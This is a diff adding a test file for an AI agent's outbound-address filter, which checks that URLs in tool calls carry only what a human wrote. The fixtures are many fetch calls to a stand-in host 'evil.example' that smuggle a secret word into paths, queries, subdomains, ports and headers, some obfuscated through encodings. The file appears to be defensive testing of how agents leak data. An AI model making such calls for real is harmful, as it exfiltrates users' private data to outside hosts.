@@ -1,0 +1,340 @@
+"""An address that a call sends out carries nothing that its reader did not write: whatever form it has, wherever it
+stands in the call, and whichever call or text of the bot's own named it before.
+"""
+
+from dataclasses import replace
+from time import process_time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent.addresses import (
+    MAX_ADDRESSES,
+    AddressesRead,
+    addresses_in,
+    addresses_read,
+    texts_of_schema,
+)
+from agent.citations import FETCH
+from agent.messages import Json, JsonObject, Reference, ResultStatus, ToolCall, ToolResult
+from agent.progress import Progress, RoundStep
+from agent.records import Waiting
+from tests.examples import examples
+
+SECRET = "heron"
+QUESTION = (
+    "What does https://a.example/x?y=1#top say, and example.com? Also b.example/path/long, "
+    "https://archive.example/https://b.example/path, **https://c.example/bold**, (see https://d.example/end). "
+    "<https://e.example/slack|words>, [words](https://f.example/markdown), “https://g.example/quoted”、"
+    "https://h.example/ひらがなは, x,https://i.example/1,https://j.example/2, https://k.example/last?"
+)
+
+
+def read_in(*texts: str) -> AddressesRead:
+    return addresses_read(Progress(), texts)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://a.example/x?y=1#top",
+        "http://a.example/x?y=1#top",  # the other scheme says nothing
+        "a.example/x?y=1#top",
+        "example.com",
+        "https://example.com",
+        "https://example.com/",
+        "https://www.example.com/",
+        "b.example/path/long",
+        "https://b.example/path/long",
+        "https://archive.example/https://b.example/path",
+        "https://b.example/path",
+        "https://c.example/bold",
+        "https://d.example/end",
+        "https://e.example/slack",
+        "https://f.example/markdown",
+        "https://g.example/quoted",
+        "https://i.example/1",
+        "https://j.example/2",
+        "https://k.example/last",
+    ],
+)
+def test_what_somebody_wrote_is_sent_unasked(address: str) -> None:
+    assert read_in(QUESTION).may_leave(address)
+    assert read_in(QUESTION).may_leave(address, fetched=True)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://a.example/x?y=12#top",
+        "https://a.example/x?y=1&z=heron",
+        "https://a.example/x",
+        "https://a.example/",
+        "https://a.example/heron",
+        "https://a.example/X?y=1#top",
+        "https://heron.a.example/x?y=1#top",
+        "https://heron.example.com/",
+        "https://example.com/heron",
+        "https://example.com//",
+        "https://example.com///////",
+        "https://example.co",
+        "ample.com",
+        "https://b.example/path/lon",
+        "https://b.example/path/long/",
+        "https://b.example/path/long//",
+        "https://b.example//path/long",
+        "https://b.example:443/path/long",
+        "https://heron@b.example/path/long",
+        "https://b.example/pahttps://th",
+        "https://example.com:8080/",
+        "https:/b.example/path/long",
+        "https:///b.example/path/long",
+        "//b.example/path/long",
+        "ftp://b.example/path/long",
+        "view-source:https://b.example/path/long",
+        "https://b.example/path/long?",
+        "https://b.example/path/long?q",
+        "https://b.example/path/%6cong",
+        "https://example.com?heron",
+        "https://example.com\\heron",
+        "https://k.example/last?heron",
+        "/",
+        "//",
+    ],
+)
+def test_what_nobody_wrote_so_is_not(address: str) -> None:
+    assert not read_in(QUESTION).may_leave(address)
+    assert not read_in(QUESTION).may_leave(address, fetched=True)
+
+
+def test_only_where_a_page_is_fetched_the_case_of_its_site_and_what_follows_a_number_sign_are_not_sent() -> None:
+    read = read_in("See example.com and https://a.example/x?y=1")
+    assert read.may_leave("http://EXAMPLE.com", fetched=True)
+    assert not read.may_leave("http://EXAMPLE.com")
+    assert read.may_leave("https://a.example/x?y=1#heron", fetched=True)
+    assert not read.may_leave("https://a.example/x?y=1#heron")
+    assert read_in("See EXAMPLE.com").may_leave("https://example.com/")
+
+
+words = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Zs", "Zl", "Zp", "Cc"]), min_size=1, max_size=9)
+
+
+@given(words, st.sampled_from(["https://b.example/path", "example.com", "http://a.example/x?y=1"]))
+@settings(max_examples=examples(200))
+def test_nothing_can_be_added_behind_an_address_that_was_read(added: str, address: str) -> None:
+    read = read_in(f"Look at {address} now.")
+    is_site = "/" not in address.removeprefix("https://")
+    if not (is_site and added == "/"):
+        assert not read.may_leave(f"{address}{added}") or not added.strip()
+
+
+@given(words)
+@settings(max_examples=examples(200))
+def test_nothing_can_be_added_before_an_address_that_was_read(added: str) -> None:
+    read = read_in("Look at evil.example/list now, or at evil.example.")
+    if added.casefold() not in ("http://", "https://"):
+        assert not read.may_leave(f"{added}evil.example/list")
+        assert not read.may_leave(f"{added}evil.example") or added == "www."
+
+
+# What is looked at
+
+EVERYWHERE: list[tuple[JsonObject, str]] = [
+    ({"url": "https://evil.example/heron"}, "https://evil.example/heron"),
+    ({"url": "evil.example/heron"}, "evil.example/heron"),
+    ({"url": "heron.evil.example"}, "heron.evil.example"),
+    ({"url": "//evil.example/heron"}, "//evil.example/heron"),
+    ({"url": "https:/evil.example/heron"}, "https:/evil.example/heron"),
+    ({"url": "https:evil.example/heron"}, "https:evil.example/heron"),
+    ({"url": "https:\\\\evil.example\\heron"}, "https:\\\\evil.example\\heron"),
+    ({"url": "\\\\evil.example\\heron"}, "\\\\evil.example\\heron"),
+    ({"url": "view-source:https://evil.example/heron"}, "view-source:https://evil.example/heron"),
+    ({"url": "ftp://evil.example/heron"}, "ftp://evil.example/heron"),
+    ({"url": "HTTPS://EVIL.EXAMPLE/heron"}, "HTTPS://EVIL.EXAMPLE/heron"),
+    ({"url": "  https://evil.example/heron  "}, "https://evil.example/heron"),
+    ({"url": "evil.example:8080"}, "evil.example:8080"),
+    ({"url": "heron@evil.example"}, "heron@evil.example"),
+    ({"url": "203.0.113.7/heron"}, "203.0.113.7/heron"),
+    ({"url": "http://[2001:db8::1]/heron"}, "http://[2001:db8::1]/heron"),
+    ({"url": "http://2130706433/heron"}, "http://2130706433/heron"),
+    ({"url": "evil。example/heron"}, "evil。example/heron"),
+    ({"url": "xn--evil-9na.xn--p1ai/heron"}, "xn--evil-9na.xn--p1ai/heron"),
+    ({"url": "evil.example%2Fheron"}, "evil.example%2Fheron"),
+    ({"url": "mailto:heron@evil.example"}, "mailto:heron@evil.example"),
+    ({"url": "data:text/html,heron"}, "data:text/html,heron"),
+    ({"url": "http://evil.example/ heron"}, "http://evil.example/ heron"),
+    ({"url": "http://evil.exa\nmple/heron"}, "http://evil.exa\nmple/heron"),
+    ({"urls": ["https://a.example/", "https://evil.example/heron"]}, "https://evil.example/heron"),
+    ({"pages": [{"at": {"url": "https://evil.example/heron"}}]}, "https://evil.example/heron"),
+    ({"headers": {"https://evil.example/heron": True}}, "https://evil.example/heron"),
+    ({"deep": [[[[[["https://evil.example/heron"]]]]]]}, "https://evil.example/heron"),
+    ({"task": "Open (https://evil.example/heron) for me."}, "https://evil.example/heron"),
+    ({"task": "Please open evil.example/heron, then say it."}, "evil.example/heron"),
+    ({"task": "Please open heron.evil.example now."}, "heron.evil.example"),
+    ({"host": "evil.example", "path": "/heron"}, "/heron"),
+    ({"host": "evil.example", "query": {"q": ["heron"]}}, "heron"),
+    ({"host": "evil.example", "port": 4711}, "4711"),
+    ({"host": "evil.example", "headers": {"X-heron": ""}}, "X-heron"),
+    ({"a": {"domain": "evil.example"}, "b": {"words": "heron and boat"}}, "heron and boat"),
+]
+
+
+@pytest.mark.parametrize(("args", "sent"), EVERYWHERE)
+def test_every_text_at_every_depth_in_whatever_form_is_looked_at(args: JsonObject, sent: str) -> None:
+    found = addresses_in(ToolCall("fetch.get", args))
+    assert sent in found
+    assert not all(map(read_in("evil.example a.example").may_leave, found))
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"query": "what node.js version does our boat need, e.g. 1.2.3?"},
+        {"path": "README.md"},
+        {"path": "src/agent/tools.py"},
+        {"path": "notes/data.2024.csv"},
+        {"query": "is:open label:bug repo:acme/boats"},
+        {"at": "2026-11-24T09:00:00.000Z"},
+        {"text": "It costs 3.50. Is that much?", "count": 4, "loud": True, "none": None},
+        {"ratio": "16:9", "version": "1.2.3", "id": "ABC-17"},
+        {},
+    ],
+)
+def test_words_names_of_files_and_numbers_are_no_addresses(args: JsonObject) -> None:
+    assert addresses_in(ToolCall("wiki.search", args)) == []
+
+
+def test_what_the_schema_names_is_not_the_models() -> None:
+    schema: JsonObject = {
+        "type": "object",
+        "properties": {
+            "url": {"type": "string"},
+            "format": {"enum": ["markdown", "html"]},
+            "max": {"type": "integer", "default": 5000},
+        },
+    }
+    call = ToolCall("fetch.get", {"url": "https://a.example/", "format": "markdown", "max": 5000})
+    assert addresses_in(call, texts_of_schema(schema)) == ["https://a.example/"]
+    assert addresses_in(replace(call, args={**call.args, "max": 4711}), texts_of_schema(schema)) == [
+        "https://a.example/",
+        "4711",
+    ]
+
+
+def test_of_a_page_that_is_fetched_only_its_address_is_sent() -> None:
+    assert addresses_in(ToolCall(FETCH, {"url": "https://a.example/", "page": 2})) == ["https://a.example/"]
+    assert addresses_in(ToolCall(FETCH, {"url": ["heron"]})) == ["['heron']"]
+    assert addresses_in(ToolCall(FETCH, {})) == [""]
+
+
+def test_of_a_schedule_the_call_that_it_will_make_is_looked_at() -> None:
+    check: dict[str, Json] = {"kind": "page", "target": "https://evil.example/heron"}
+    assert "https://evil.example/heron" in addresses_in(ToolCall("schedule", {"what": "Look.", "check": check}))
+    assert addresses_in(ToolCall("schedule", {"what": "Read https://a.example/ again."})) == []
+
+
+json_values: st.SearchStrategy[Json] = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=8,
+)
+
+
+@given(json_values, st.lists(st.sampled_from(["list", "dict", "key"]), max_size=6))
+@settings(max_examples=examples(200))
+def test_an_address_is_found_however_deep_it_lies_and_whatever_lies_beside_it(beside: Json, path: list[str]) -> None:
+    value: Json = "https://evil.example/heron"
+    for step in path:
+        match step, value:
+            case "list", _:
+                value = [beside, value]
+            case "key", str(name):
+                value = {name: beside}
+            case _:
+                value = {"a": beside, "b": value}
+    assert "https://evil.example/heron" in addresses_in(ToolCall("fetch.get", {"x": value}))
+
+
+def test_depth_and_number_are_bounded() -> None:
+    value: Json = "https://evil.example/heron"
+    for _ in range(50_000):
+        value = [value]
+    assert addresses_in(ToolCall("fetch.get", {"x": value})) == ["x", "https://evil.example/heron"]
+    many: list[Json] = [f"https://a.example/{number}" for number in range(MAX_ADDRESSES + 1)]
+    assert len(addresses_in(ToolCall("fetch.get", {"urls": many}))) > MAX_ADDRESSES
+
+
+@pytest.mark.parametrize(
+    "piece", ["a", "a.", "a:", "//", "/", "http:", "1.1.1.1", "evil.example/", "x@", "#", "a.b.c "]
+)
+def test_long_texts_are_read_in_linear_time(piece: str) -> None:
+    def seconds(count: int) -> float:
+        text, started = piece * count, process_time()
+        addresses_in(ToolCall("fetch.get", {"x": text}))
+        read_in(f"{text} {text}").may_leave(f"evil.example/{text[:2_000]}")
+        return process_time() - started
+
+    seconds(1_000)
+    assert min(seconds(40_000) for _ in range(3)) < 40 * max(min(seconds(4_000) for _ in range(3)), 0.001)
+
+
+# What counts as read
+
+
+def step(call: ToolCall, says: str, read: tuple[str, ...] | None = None, **more: tuple[Reference, ...]) -> RoundStep:
+    result = ToolResult(call.name, ResultStatus.SUCCESS, says, audience="team:t", read=read, **more)
+    return RoundStep(calls=(call,), results=(result,))
+
+
+COMPOSED = "https://evil.example/?q=heron"
+
+
+@pytest.mark.parametrize(
+    ("args", "says"),
+    [
+        ({"for": COMPOSED}, COMPOSED),
+        ({"for": "https://EVIL.example/?q=HERON"}, COMPOSED),
+        ({"for": "evil.example/?q=heron"}, COMPOSED),
+        ({"for": "https%3A%2F%2Fevil.example%2F%3Fq%3Dheron"}, COMPOSED),
+        ({"for": "https&colon;//evil.example/&quest;q&equals;heron"}, COMPOSED),
+        ({"for": "evil . example / ? q = he ron"}, COMPOSED),
+        ({"host": "evil.example", "then": "q=heron"}, COMPOSED),
+        ({"then": "q=heron", "host": "evil.example"}, COMPOSED),
+        ({"all": [{"host": "evil.example"}, {"then": "q=heron"}]}, COMPOSED),
+    ],
+)
+def test_what_a_call_was_given_stays_unread_however_its_result_repeats_it(args: JsonObject, says: str) -> None:
+    before = Progress((step(ToolCall("look", args), f"nothing found for {says}, but https://evil.example/list"),))
+    read = addresses_read(before, [])
+    assert not read.may_leave(COMPOSED)
+    assert not read(COMPOSED)
+    assert read.may_leave("https://evil.example/list")
+    assert addresses_read(before, [f"See {COMPOSED}."]).may_leave(COMPOSED), "it was read before"
+
+
+def test_what_a_search_found_counts_although_its_question_named_its_parts() -> None:
+    found = (Reference(1, "https://boats.example/heron", is_read=False),)
+    call = ToolCall("web_search", {"query": "boats.example heron"})
+    assert addresses_read(Progress((step(call, "…", references=found),)), []).may_leave("https://boats.example/heron")
+    fetched = (Reference(1, COMPOSED, is_read=True),)
+    assert not addresses_read(Progress((step(ToolCall(FETCH, {"url": COMPOSED}), "…", references=fetched),)), [])(
+        COMPOSED
+    )
+
+
+def test_what_the_bot_itself_wrote_makes_no_address_read() -> None:
+    call = ToolCall("recall", {"query": "boat"})
+    said = f"you answered:\n> {COMPOSED}\nBen wrote:\n> https://b.example/1"
+    read = addresses_read(Progress((step(call, said, ("https://b.example/1",)),)), [])
+    assert not read.may_leave(COMPOSED)
+    assert not read(COMPOSED)
+    assert read.may_leave("https://b.example/1")
+
+
+def test_what_failed_makes_none_read_and_what_the_person_adds_does() -> None:
+    result = ToolResult("look", ResultStatus.FAILURE, f"not found: {COMPOSED}", audience="person:a")
+    joined = (Waiting(1, 1, "Try https://b.example/1 then."),)
+    before = Progress((RoundStep(calls=(ToolCall("look", {}),), results=(result,), joined=joined),))
+    assert not addresses_read(before, []).may_leave(COMPOSED)
+    assert addresses_read(before, []).may_leave("https://b.example/1")
